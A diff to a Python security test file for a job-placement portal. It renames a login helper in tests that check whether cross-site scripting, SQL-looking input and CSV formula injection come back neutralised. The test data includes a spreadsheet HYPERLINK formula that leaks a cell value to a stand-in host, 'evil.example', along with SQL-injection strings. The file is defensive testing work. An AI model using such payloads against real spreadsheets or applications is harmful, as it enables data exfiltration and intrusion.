@@ -20,8 +20,7 @@ from portal.extensions import db
 from portal.models import Agreement, JobSeeker, LearningGoal, Organisation, Placement, Slot, User
 from portal.models.base import utcnow
 from portal.organisations.numbers import format_organisation_number, luhn_check_digit
-from tests.conftest import DEMO_PASSWORD, confirm_registration, slot_form
-from tests.security.conftest import logged_in
+from tests.conftest import DEMO_PASSWORD, confirm_registration, login, slot_form
 
 
 def xss(tag):
@@ -74,9 +73,9 @@ def pdf_text(data):
 
 
 def test_stored_script_in_every_free_text_field_is_shown_as_text(app, demo, make_placement, new_agreement):
-    anonymous = logged_in(app, None)
-    coordinator = logged_in(app, "coordinator@example.com")
-    union = logged_in(app, "union@example.com")
+    anonymous = login(app, None)
+    coordinator = login(app, "coordinator@example.com")
+    union = login(app, "union@example.com")
 
     # Registration: the organisation and its contact person (who becomes an account).
     response = anonymous.post("/organisations/register", data={
@@ -93,7 +92,7 @@ def test_stored_script_in_every_free_text_field_is_shown_as_text(app, demo, make
         db.session.commit()
         organisation_id = organisation.id
     assert coordinator.post(f"/organisations/{organisation_id}/verify").status_code == 302
-    employer = logged_in(app, "xss@employer.example", password="long-enough-password")
+    employer = login(app, "xss@employer.example", password="long-enough-password")
 
     # The slot form: every text field.
     slot_fields = ["title", "occupation", "tasks", "schedule", "workplace_address", "supervisor_name",
@@ -132,8 +131,8 @@ def test_stored_script_in_every_free_text_field_is_shown_as_text(app, demo, make
 
     # End feedback on a placement of the demo employer: the report and the job-seeker's answers, submitted.
     placement_id = make_placement("Amina Hassan")
-    demo_employer = logged_in(app, "employer@example.com")
-    jobseeker = logged_in(app, "jobseeker@example.com")
+    demo_employer = login(app, "employer@example.com")
+    jobseeker = login(app, "jobseeker@example.com")
     with app.app_context():
         goals = db.session.scalars(select(LearningGoal.id).join(Placement, Placement.slot_id == LearningGoal.slot_id)
                                    .where(Placement.id == placement_id)).all()
@@ -197,9 +196,9 @@ def test_stored_script_in_every_free_text_field_is_shown_as_text(app, demo, make
 
 
 def test_reflected_script_comes_back_escaped(app, demo):
-    anonymous = logged_in(app, None)
-    coordinator = logged_in(app, "coordinator@example.com")
-    employer = logged_in(app, "employer@example.com")
+    anonymous = login(app, None)
+    coordinator = login(app, "coordinator@example.com")
+    employer = login(app, "employer@example.com")
     payload = xss("reflected")
     cases = [
         ("login form", anonymous.post("/login", data={"email": payload, "password": payload})),
@@ -232,7 +231,7 @@ def test_the_language_switch_stays_on_this_site(app):
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, demo, make_slot, make_placement):
     formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
-    coordinator = logged_in(app, "coordinator@example.com")
+    coordinator = login(app, "coordinator@example.com")
     for index, name in enumerate(formulas):
         digits = f"55990{index:02d}44"
         with app.app_context():
@@ -253,8 +252,8 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, demo, make_
 
 
 def test_sql_looking_input_is_stored_and_shown_as_text(app, demo):
-    anonymous = logged_in(app, None)
-    coordinator = logged_in(app, "coordinator@example.com")
+    anonymous = login(app, None)
+    coordinator = login(app, "coordinator@example.com")
     response = anonymous.post("/organisations/register", data={
         "organisation_number": number("559955667"), "name": SQL, "workplace_address": SQL, "sector": "retail",
         "has_collective_agreement": "no", "contact_person": SQL, "email": "sql@employer.example",
@@ -263,8 +262,8 @@ def test_sql_looking_input_is_stored_and_shown_as_text(app, demo):
     response = coordinator.post("/jobseekers/new", data={
         "full_name": SQL, "gender": "man", "birth_year": "1980", "desired_occupation": SQL, "education": SQL})
     assert response.status_code == 302
-    assert logged_in(app, None).post("/login", data={"email": SQL, "password": SQL}).status_code == 200
-    logged_in(app, None).post("/guide/ask", data={"question": SQL})
+    assert login(app, None).post("/login", data={"email": SQL, "password": SQL}).status_code == 200
+    login(app, None).post("/guide/ask", data={"question": SQL})
     assert coordinator.get("/stats/", query_string={"organisation": "1 OR 1=1", "sector": SQL}).status_code == 200
 
     with app.app_context():
